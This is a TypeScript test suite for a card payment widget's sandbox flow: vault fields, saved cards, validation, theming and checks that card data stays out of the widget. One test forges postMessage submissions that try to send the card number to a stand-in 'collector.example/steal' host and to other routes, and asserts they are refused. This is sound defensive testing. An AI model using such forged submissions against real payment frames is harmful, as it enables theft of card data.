/**
 * The card payment flow against the sandbox: secure vault fields typed into as a customer would, each test
 * card to its final screen, saved cards, processing errors, and the card data never in the widget.
 */
import { expect } from '@open-wc/testing';
import {
  type Mounted,
  SANDBOX,
  TOKEN_KEY,
  button,
  confirmAndBuy,
  inputLabelled,
  mountElement,
  control,
  enterCard,
  typeIntoVault,
  typeInto,
  freshSandboxPerTest,
  toCardDetails,
  query,
  text,
  toUserInfoAsVerified,
  waitFor,
  waitForText,
} from './helpers';

freshSandboxPerTest();

const orderEvents = (mounted: Mounted, channel: 'dom' | 'postMessage') =>
  mounted.events.filter((e) => e.channel === channel && (e.type.startsWith('operation') || e.type.startsWith('payment'))).map((e) => e.type);

describe('card payment', () => {
  it('a new card that completes: Done, the host told each step once, the card saved', async () => {
    const { mounted, root, orderId } = await toCardDetails();
    await enterCard(root, '4242424242424242');
    // The brand the vault recognises shows in the number field.
    expect(query(root, '[data-testid="vault-number"] [data-brand]').getAttribute('data-brand')).to.equal('visa');
    await confirmAndBuy(root);
    await waitForText(root, 'Done', 15_000);
    for (const channel of ['dom', 'postMessage'] as const) {
      expect(orderEvents(mounted, channel)).to.deep.equal(['operation_created', 'payment_sent', 'operation_pending', 'operation_success']);
    }
    expect(mounted.events.find((e) => e.type === 'payment_sent')?.data).to.deep.equal({ orderId });
    // 'Save card' was on (its default): the provider keeps the card, and shows only its brand and last digits.
    const token = sessionStorage.getItem(TOKEN_KEY) ?? '';
    const reply = (await (await fetch(`${SANDBOX.api}/provider/v1/customers/current`, { headers: { Authorization: `Bearer ${token}` } })).json()) as {
      result: { cards: { last4: string; brand: string }[] };
    };
    expect(reply.result.cards.map((card) => [card.brand, card.last4])).to.deep.equal([['visa', '4242']]);
  });

  it('never puts the card number or security code in its DOM or its own requests', async () => {
    const { root, orderId } = await toCardDetails();
    await enterCard(root, '5555555555554444', '987');
    await confirmAndBuy(root);
    await waitForText(root, 'Done', 15_000);
    const page = document.documentElement.outerHTML + root.innerHTML;
    expect(page).not.to.contain('5555555555554444');
    expect(page).not.to.contain('5555 5555 5555 4444');
    expect(page).not.to.match(/value="987"/);
    const requests = (await control('requests')) as { path: string }[];
    expect(JSON.stringify(requests)).not.to.contain('5555555555554444');
    // The widget's own fetches: none went to the vault or carried the number; the vault's frame sent the
    // card to the vault, which passed aliases on to the provider.
    const own = (performance.getEntriesByType('resource') as PerformanceResourceTiming[])
      .filter((entry) => entry.initiatorType === 'fetch' || entry.initiatorType === 'xmlhttprequest')
      .map((entry) => entry.name);
    expect(own.length).to.be.greaterThan(0);
    expect(own.some((url) => url.includes('5555555555554444') || url.startsWith(SANDBOX.vault))).to.equal(false);
    const cardData = (await control('card-data')) as { vaultRequests: { path: string }[]; clearAtApi: number };
    expect(cardData.vaultRequests.map((r) => r.path)).to.deep.equal([`/provider/v2/orders/${orderId}/processing`]);
    expect(cardData.clearAtApi).to.equal(0);
  });

  it("a host page's script cannot get the card out through the vault's fields: only the vault's configured routes take a submission", async () => {
    const { mounted, root } = await toCardDetails();
    await enterCard(root, '5555555555554444', '987');
    // The number field's frame sits in the element's light DOM: this page is its parent, as a host is.
    const frame = query<HTMLIFrameElement>(mounted.element, '[id$="-number"] > iframe');
    const formId = new URLSearchParams(new URL(frame.src).hash.slice(1)).get('formId') ?? '';
    const forge = (id: string, request: Record<string, unknown>) =>
      new Promise<{ status: number; body: unknown }>((resolve) => {
        const onMessage = (event: MessageEvent) => {
          if (event.source !== frame.contentWindow || event.data?.type !== 'response' || event.data.id !== id) return;
          window.removeEventListener('message', onMessage);
          resolve({ status: event.data.status, body: event.data.body });
        };
        window.addEventListener('message', onMessage);
        frame.contentWindow?.postMessage({ type: 'submit', formId, id, names: ['number'], method: 'POST', body: { card: [{}] }, ...request }, SANDBOX.vault);
      });
    const answers = [
      await forge('to-another-host', { host: 'collector.example', path: '/steal' }),
      await forge('to-an-address', { path: `@${new URL(SANDBOX.demo).host}/steal` }),
      await forge('to-another-route', { path: '/provider/v1/customers/sign-in' }),
    ];
    expect(answers.map((a) => a.status)).to.deep.equal([0, 403, 403]);
    for (const answer of answers) expect(JSON.stringify(answer.body)).not.to.contain('5555');
    expect(((await control('card-data')) as { clearAtApi: number }).clearAtApi).to.equal(0);
  });

  it('shows the spec messages for empty and invalid card fields', async () => {
    const { root } = await toCardDetails();
    button(root, 'Proceed').click();
    await waitForText(root, 'Card number is invalid');
    expect(text(root)).to.contain('Invalid Date');
    expect(text(root)).to.contain('CVV code should be 3 digits');
    expect(text(root)).to.contain('Cardholder name is invalid');
    // The address on file is whole: no word of it.
    expect(text(root)).not.to.contain('Please fill billing address details');
  });

  it('a billing address with a part missing: one message for the address (spec 1 §5)', async () => {
    // A verified customer whose identity check gave no street address.
    await control('customers', { email: 'kyc-complete@sandbox.test', address: null });
    const { root } = await toCardDetails();
    await enterCard(root, '4242424242424242');
    button(root, 'Proceed').click();
    await waitForText(root, 'Please fill billing address details');
    expect(text(query(root, 'h1'))).to.equal('Enter card details');
  });

  it('saved cards: the default chosen, its security code asked for in place, Proceed straight to the confirmation; a card can be deleted', async () => {
    await control('cards', { email: 'kyc-complete@sandbox.test', number: '4242424242424242', expirationDate: '01/30' });
    // The latest card saved is the customer's default (the sandbox's rule).
    await control('cards', { email: 'kyc-complete@sandbox.test', number: '5555555555554444', expirationDate: '02/31' });
    await control('settle-step', { ms: 200 });
    const mounted = await toUserInfoAsVerified('card');
    const { root } = mounted;
    button(root, 'Confirm and proceed').click();
    await waitForText(root, 'Select card');
    // The fee summary on the card pages (spec 1 §2): the order's rate and fees.
    for (const row of ['order-rate', 'order-network-fee', 'order-provider-fee']) expect(root.querySelector(`[data-testid="${row}"]`)).not.to.equal(null);
    // What is charged comes last, just above the main action.
    expect(text(query(root, '[data-testid="order-summary"] > div:last-child'))).to.equal('You pay 100.00 USD');
    const radios = () => [...root.querySelectorAll<HTMLInputElement>('.crw-card-option input[type="radio"]')];
    expect(radios().map((radio) => radio.checked)).to.deep.equal([false, true, false]);
    // The security code in place, and the address and phone on file with a way to change them.
    await waitFor(() => root.querySelector('[data-testid="vault-cvv"][data-state="empty"]'), 'the security code field');
    expect(root.querySelector('[data-testid="vault-number"]')).to.equal(null);
    expect(text(query(root, '[data-testid="card-details-summary"]'))).to.contain('Billing address and phone');
    button(root, 'Delete card ending 4242').click();
    await waitFor(() => !text(root).includes('•••• 4242'), 'the deleted card to go');
    expect(radios().map((radio) => radio.checked)).to.deep.equal([true, false]);
    // No code yet: the customer stays, told what is missing.
    await waitFor(() => !button(root, 'Proceed').disabled, 'the secure field ready');
    button(root, 'Proceed').click();
    await waitForText(root, 'CVV code should be 3 digits');
    expect(text(root)).to.contain('Select card');
    await typeIntoVault(root, 'cvv', '321');
    button(root, 'Proceed').click();
    await waitForText(root, 'Confirm transaction');
    expect(text(query(root, '[data-testid="confirm-card"]'))).to.contain('•••• 4444');
    // Back returns to where the confirmation was reached from, the code still typed.
    button(root, 'Back').click();
    await waitForText(root, 'Select card');
    await confirmAndBuy(root);
    await waitForText(root, 'Done', 15_000);
  });

  it("a saved card's billing address and phone stay reachable: Edit opens them with the card's security code", async () => {
    await control('cards', { email: 'kyc-complete@sandbox.test', number: '4242424242424242' });
    const { root } = await toUserInfoAsVerified('card');
    button(root, 'Confirm and proceed').click();
    await waitForText(root, 'Select card');
    button(root, 'Edit billing address and phone').click();
    await waitForText(root, 'Enter card details');
    expect(query(root, '[data-testid="saved-card-preview"]').textContent).to.contain('•••• 4242');
    expect(root.querySelector('[data-testid="billing-address"]')).not.to.equal(null);
    await typeIntoVault(root, 'cvv', '123');
    await confirmAndBuy(root);
    await waitForText(root, 'Done', 15_000);
  });

  it("dark: a new card's fields, mounted after saved card → Edit → Back → Add a new card → Proceed, write in the theme's text colour, placeholders in its muted one (issue 46)", async () => {
    await control('cards', { email: 'kyc-complete@sandbox.test', number: '4242424242424242' });
    const mounted = await toUserInfoAsVerified('card');
    const { root, element } = mounted;
    element.setAttribute('theme', 'dark');
    await waitFor(() => root.querySelector('.crw-root[data-theme="dark"]'), 'the dark theme');
    button(root, 'Confirm and proceed').click();
    await waitForText(root, 'Select card');
    button(root, 'Edit billing address and phone').click();
    await waitFor(() => query(root, 'h1').textContent === 'Enter card details', 'the saved card on page 1');
    button(root, 'Back').click();
    await waitFor(() => query(root, 'h1').textContent === 'Select card', 'back to page 0');
    query<HTMLInputElement>(root, '.crw-card-option:last-child input[type="radio"]').click();
    button(root, 'Proceed').click();
    await waitFor(() => root.querySelector('[data-testid="vault-holder"]:not([data-state="loading"])'), "the new card's fields");
    // The style each field was mounted with (Collect.js's `css`, in its frame's address).
    const styles = [...element.querySelectorAll<HTMLIFrameElement>('iframe')].map((frame) => {
      const css = JSON.parse(new URLSearchParams(new URL(frame.src).hash.slice(1)).get('css') ?? '{}') as {
        color?: string;
        'background-color'?: string;
        '&::placeholder'?: { color?: string };
      };
      return { field: frame.title, text: css.color, background: css['background-color'], placeholder: css['&::placeholder']?.color };
    });
    expect(styles.map((s) => s.field)).to.deep.equal(['Card number', 'Expiry date (MM/YY)', 'Security code', 'Name on card']);
    // The dark theme's text and muted colours (src/ui/styles.css).
    for (const style of styles) {
      expect(style.text, `${style.field}: its text`).to.equal('rgb(236, 238, 244)');
      expect(style.placeholder, `${style.field}: its placeholder`).to.equal('rgb(169, 173, 189)');
      // Painted by the field itself: a contrast check inside the frame (axe's) reads it on the dark surface,
      // not on the white it assumes behind a transparent frame.
      expect(style.background, `${style.field}: its background`).to.equal(getComputedStyle(query(root, '.crw-vault-field')).backgroundColor);
      expect(style.background).to.not.equal('rgb(255, 255, 255)');
    }
  });

  it('back: page 2 → 1 → 0 with saved cards; without cards page 1 leaves the flow', async () => {
    await control('cards', { email: 'kyc-complete@sandbox.test', number: '4242424242424242' });
    const mounted = await toUserInfoAsVerified('card');
    const { root } = mounted;
    const title = () => query(root, 'h1').textContent;
    button(root, 'Confirm and proceed').click();
    await waitForText(root, 'Select card');
    // Page 0 → 1 (the saved card's details) → 2 (the confirmation), then Back: 2 → 1 → 0.
    button(root, 'Edit billing address and phone').click();
    await waitFor(() => title() === 'Enter card details', 'page 1');
    await typeIntoVault(root, 'cvv', '123');
    button(root, 'Proceed').click();
    await waitFor(() => title() === 'Confirm transaction', 'page 2');
    button(root, 'Back').click();
    await waitFor(() => title() === 'Enter card details', 'back to page 1');
    button(root, 'Back').click();
    await waitFor(() => title() === 'Select card', 'back to page 0');
    button(root, 'Delete card ending 4242').click();
    // The last card gone, the new-card form opens; back from it leaves the flow.
    await waitForText(root, 'Enter card details');
    button(root, 'Back').click();
    await waitForText(root, 'Check your details');
  });

  it('the confirmation page shows only itself: the card form is out of sight and out of the tab order', async () => {
    const { root } = await toCardDetails();
    await enterCard(root, '4242424242424242');
    button(root, 'Proceed').click();
    await waitForText(root, 'Confirm transaction');
    // The card page stays mounted (its data lives in the vault's frames) but is not rendered at all.
    const cardPage = query(root, '[data-testid="vault-number"]').closest('[hidden]');
    expect(cardPage).to.not.equal(null);
    expect(getComputedStyle(cardPage as Element).display).to.equal('none');
    expect(query(root, '[data-testid="vault-number"]').getClientRects().length).to.equal(0);
    expect(button(root, 'Buy Now').getClientRects().length).to.be.greaterThan(0);
  });

  it("'Save card for future payments' stays unticked after a reload once the customer unticked it", async () => {
    const { mounted, root } = await toCardDetails();
    const box = inputLabelled(root, 'Save card for future payments');
    expect(box.checked).to.equal(true);
    box.click();
    expect(box.checked).to.equal(false);
    mounted.remove();
    const reloaded = mountElement();
    await waitForText(reloaded.root, 'Enter card details');
    expect(inputLabelled(reloaded.root, 'Save card for future payments').checked).to.equal(false);
  });

  it('saving the billing address keeps the phone the customer just typed', async () => {
    const { root } = await toCardDetails();
    const picker = query<HTMLSelectElement>(root, 'select[aria-label="Phone country code"]');
    picker.value = 'GB';
    picker.dispatchEvent(new Event('change', { bubbles: true }));
    typeInto(inputLabelled(root, 'Phone'), '07400 123456');
    button(root, 'Edit').click();
    await waitForText(root, 'Edit Billing Address');
    button(root, 'Save address').click();
    await waitFor(() => !text(root).includes('Edit Billing Address'), 'the modal to close');
    expect(inputLabelled(root, 'Phone').value).to.equal('07400 123456');
    expect(text(root)).not.to.contain('Phone number is not valid');
  });
});
